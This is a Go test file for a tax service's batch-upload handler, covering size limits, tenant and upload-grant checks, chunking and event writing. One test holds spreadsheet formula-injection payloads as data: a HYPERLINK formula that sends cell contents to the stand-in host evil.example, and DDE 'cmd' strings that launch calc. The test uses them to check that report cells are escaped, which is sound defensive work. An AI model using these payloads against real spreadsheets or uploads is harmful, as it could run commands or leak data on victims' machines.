package batch

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	s3sdk "github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/taxflow/taxflow/functions/fn"
	ibatch "github.com/taxflow/taxflow/internal/batch"
	"github.com/taxflow/taxflow/internal/contract"
	"github.com/taxflow/taxflow/internal/events"
	"github.com/taxflow/taxflow/internal/store"
	"github.com/taxflow/taxflow/internal/store/storetest"
)

func handler(s3 *storetest.S3, lim ibatch.Limits) func(context.Context, contract.BatchInput) (json.RawMessage, error) {
	db := storetest.New(map[string]storetest.Key{"case_owners": {PK: "case_id"}, "audit": {PK: "case_id", SK: "entry_id"}})
	return fn.Handler(Handler{S3: s3, Bucket: "documents", DB: db, Owners: "case_owners", Journal: "audit", Limits: lim, Now: time.Now}.Handle)
}

func read(t *testing.T, h func(context.Context, contract.BatchInput) (json.RawMessage, error), key string) contract.BatchReadResult {
	t.Helper()
	out, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpRead, BatchID: "batch-1", Key: key})
	require.NoError(t, err)
	var r contract.BatchReadResult
	require.NoError(t, json.Unmarshal(out, &r))
	return r
}

func TestReadRefusesTooLargeWithoutReading(t *testing.T) {
	s3 := storetest.NewS3()
	s3.Put("inbox/bank-a/x.csv", make([]byte, 2048))
	r := read(t, handler(s3, ibatch.Limits{MaxBytes: 1024, MaxLines: 10}), "inbox/bank-a/x.csv")
	require.NotNil(t, r.Refusal)
	assert.Equal(t, ibatch.RefusedTooLarge, r.Refusal.Code)
	assert.Equal(t, "bank-a", r.Tenant)
}

func TestReadOfAMovedFileIsGone(t *testing.T) {
	r := read(t, handler(storetest.NewS3(), ibatch.DefaultLimits), "inbox/bank-a/x.csv")
	assert.True(t, r.Gone)
}

func TestReadOutsideAnInboxIsRefused(t *testing.T) {
	s3 := storetest.NewS3()
	s3.Put("inbox/x.csv", []byte("schema_version,kind,external_id\n1,refund,r\n"))
	r := read(t, handler(s3, ibatch.DefaultLimits), "inbox/x.csv")
	require.NotNil(t, r.Refusal)
	assert.Equal(t, ibatch.RefusedTenant, r.Refusal.Code)
}

func TestReadSplitsIntoChunks(t *testing.T) {
	s3 := storetest.NewS3()
	body := "schema_version,kind,external_id\n"
	for i := 0; i < ChunkSize+1; i++ {
		body += "1,refund,r\n" // invalid lines (no inn...) still take their place
	}
	s3.Put("inbox/bank-a/x.csv", []byte(body))
	r := read(t, handler(s3, ibatch.DefaultLimits), "inbox/bank-a/x.csv")
	assert.Equal(t, 2, r.Chunks)
	assert.Equal(t, ChunkSize+1, r.Lines)
	assert.Equal(t, ChunkSize+1, r.Invalid)
	assert.Contains(t, s3.Objects, chunkKey("batch-1", 1))
}

func TestUnknownOperationIsInvalid(t *testing.T) {
	_, err := handler(storetest.NewS3(), ibatch.DefaultLimits)(context.Background(), contract.BatchInput{Op: "drop", BatchID: "batch-1"})
	require.Error(t, err)
}

// The chunks carry the uploader the file's grant names: only a grant for this object and
// tenant counts; a file without one, or naming another's, has no uploader (its lines are
// refused when they start).
func TestReadStampsTheUploaderOfTheFilesGrant(t *testing.T) {
	up := ibatch.Uploader{Principal: "bank-a/integrator", Tenant: "bank-a", Role: "integrator", Scopes: []string{"refunds:write"}}
	grant := func(s3 *storetest.S3, id, key string, u ibatch.Uploader, expires int64) {
		b, err := json.Marshal(ibatch.Grant{ID: id, Key: key, Uploader: u, ExpiresAt: expires})
		require.NoError(t, err)
		gkey, ok := ibatch.GrantKey(id)
		require.True(t, ok)
		s3.Put(gkey, b)
	}
	const file = "schema_version,kind,external_id\n1,refund,r\n"
	put := func(s3 *storetest.S3, key, grantID string) {
		_, err := s3.PutObject(context.Background(), &s3sdk.PutObjectInput{Bucket: aws.String("documents"), Key: aws.String(key),
			Body: strings.NewReader(file), Metadata: map[string]string{ibatch.GrantMetadata: grantID}})
		require.NoError(t, err)
	}
	chunk := func(s3 *storetest.S3) *ibatch.Uploader {
		var lines []ibatch.Line
		require.NoError(t, json.Unmarshal(s3.Objects[chunkKey("batch-1", 0)], &lines))
		require.Len(t, lines, 1)
		return lines[0].Uploader
	}
	ok := strings.Repeat("a", 32)
	for _, c := range []struct {
		name, key, grantID, grantKey string
		grantFor                     ibatch.Uploader
		want                         *ibatch.Uploader
		expires                      int64 // the grant's URL expiry (0: none recorded)
	}{
		{"its own grant", "inbox/bank-a/x.csv", ok, "inbox/bank-a/x.csv", up, &up, 0},
		{"its own grant, in time", "inbox/bank-a/x.csv", ok, "inbox/bank-a/x.csv", up, &up, time.Now().Add(10 * time.Minute).Unix()},
		// written after the grant's URL expired: someone copied the grant's id, not its URL
		{"its own grant, expired", "inbox/bank-a/x.csv", ok, "inbox/bank-a/x.csv", up, nil, time.Now().Add(-10 * time.Minute).Unix()},
		{"no grant", "inbox/bank-a/x.csv", "", "", up, nil, 0},
		{"a grant of another file", "inbox/bank-a/x.csv", ok, "inbox/bank-a/other.csv", up, nil, 0},
		{"a grant of another tenant", "inbox/bank-a/x.csv", ok, "inbox/bank-a/x.csv", ibatch.Uploader{Tenant: "bank-b", Scopes: up.Scopes}, nil, 0},
		{"a grant that does not exist", "inbox/bank-a/x.csv", strings.Repeat("b", 32), "", up, nil, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			s3 := storetest.NewS3()
			if c.grantKey != "" {
				grant(s3, c.grantID, c.grantKey, c.grantFor, c.expires)
			}
			put(s3, c.key, c.grantID)
			read(t, handler(s3, ibatch.DefaultLimits), c.key)
			assert.Equal(t, c.want, chunk(s3))
		})
	}
}

// A batch report opened in a spreadsheet must not run what an uploader wrote: every cell
// that a spreadsheet would read as a formula (=, +, -, @, a tab or a CR first) gets a
// leading ' (OWASP CSV injection), and every cell is CSV-quoted as needed, so a quote or a
// comma cannot start a new cell. An invalid line's raw kind and external id are what the
// uploader controls.
func TestReportCellsCannotBeFormulas(t *testing.T) {
	s3 := storetest.NewS3()
	s3.Put("inbox/bank-a/x.csv", []byte("schema_version,kind,external_id\n"))
	h := handler(s3, ibatch.DefaultLimits)
	hostile := []contract.BatchLineResult{
		{Line: 2, Kind: `=HYPERLINK("http://evil.example/?"&A1,"click")`, ExternalID: "+cmd|' /C calc'!A0", Outcome: contract.LineError,
			Error: "kind: must be refund, declaration or account_event"},
		{Line: 3, Kind: "@SUM(1+1)*cmd|' /C calc'!A0", ExternalID: "-2+3", Outcome: contract.LineError, Error: "=1+1"},
		{Line: 4, Kind: "\t=1+1", ExternalID: "\r=1+1", Outcome: contract.LineError, Error: "x"},
		{Line: 5, Kind: "refund", ExternalID: `a","=1+1`, Outcome: contract.LineCreated, CaseID: "refund-1"},
	}
	_, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpRecord, BatchID: "batch-1", Chunk: 0, Results: hostile})
	require.NoError(t, err)
	out, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpFinish, BatchID: "batch-1", Key: "inbox/bank-a/x.csv", Chunks: 1, Run: "r1"})
	require.NoError(t, err)
	var fin contract.BatchFinishResult
	require.NoError(t, json.Unmarshal(out, &fin))
	rows, err := csv.NewReader(bytes.NewReader(s3.Objects[fin.ReportKey])).ReadAll()
	require.NoError(t, err, "the report is valid CSV")
	require.Len(t, rows, 1+len(hostile), "one row per line: no cell broke out into a row of its own")
	for i, row := range rows {
		require.Len(t, row, 6, "row %d: a cell broke out into cells of its own: %q", i, row)
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d cell %d starts a formula: %q", i, j, cell)
			}
		}
	}
	// What was written is kept, behind the quote: the reader still sees what was sent.
	assert.Equal(t, "'"+hostile[0].Kind, rows[1][2])
	assert.Equal(t, "'"+hostile[0].ExternalID, rows[1][1])
	assert.Equal(t, "'-2+3", rows[2][1])
	assert.Equal(t, "'=1+1", rows[2][5])
	assert.Equal(t, "'\t=1+1", rows[3][2])
	assert.Equal(t, `a","=1+1`, rows[4][1], "a quote inside a cell stays inside it")
	assert.Equal(t, "refund-1", rows[4][4])
}

// A whole-file refusal's reason is a cell too.
func TestRefusedReportReasonCannotBeAFormula(t *testing.T) {
	s3 := storetest.NewS3()
	s3.Put("inbox/bank-a/x.csv", []byte("x"))
	h := handler(s3, ibatch.DefaultLimits)
	out, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpFinish, BatchID: "batch-1", Key: "inbox/bank-a/x.csv", Run: "r1",
		Refusal: &contract.BatchRefusal{Code: "=cmd", Reason: "x"}})
	require.NoError(t, err)
	var fin contract.BatchFinishResult
	require.NoError(t, json.Unmarshal(out, &fin))
	rows, err := csv.NewReader(bytes.NewReader(s3.Objects[fin.ReportKey])).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, "'=cmd: x", rows[1][5])
}

// A batch's end is its tenant's event, once: batch.done (or batch.refused) with its
// Russian label, pending for the relay; the step retried writes no second.
func TestFinishWritesTheBatchEventOnce(t *testing.T) {
	for _, refused := range []bool{false, true} {
		s3 := storetest.NewS3()
		s3.Put("inbox/bank-a/x.csv", []byte("x"))
		db := storetest.New(map[string]storetest.Key{"case_owners": {PK: "case_id"}, "audit": {PK: "case_id", SK: "entry_id"}, "events": {PK: "case_id", SK: "seq"}})
		h := fn.Handler(Handler{S3: s3, Bucket: "documents", DB: db, Owners: "case_owners", Journal: "audit", Events: "events", Limits: ibatch.DefaultLimits, Now: time.Now}.Handle)
		in := contract.BatchInput{Op: contract.BatchOpFinish, BatchID: "batch-1", Key: "inbox/bank-a/x.csv", Run: "r1"}
		want := "batch.done"
		if refused {
			in.Refusal, want = &contract.BatchRefusal{Code: "too_large", Reason: "x"}, "batch.refused"
		}
		for range 2 {
			_, err := h(context.Background(), in)
			require.NoError(t, err)
		}
		items := db.Items("events")
		require.Len(t, items, 1)
		var ev events.Item
		require.NoError(t, store.Unmarshal(items[0], &ev))
		assert.Equal(t, want, ev.Type)
		assert.Equal(t, "batch-1/1", ev.ID)
		assert.Equal(t, events.StatePending, ev.State)
		assert.NotEmpty(t, ev.StatusLabel)
		assert.NotEmpty(t, ev.At)
	}
}
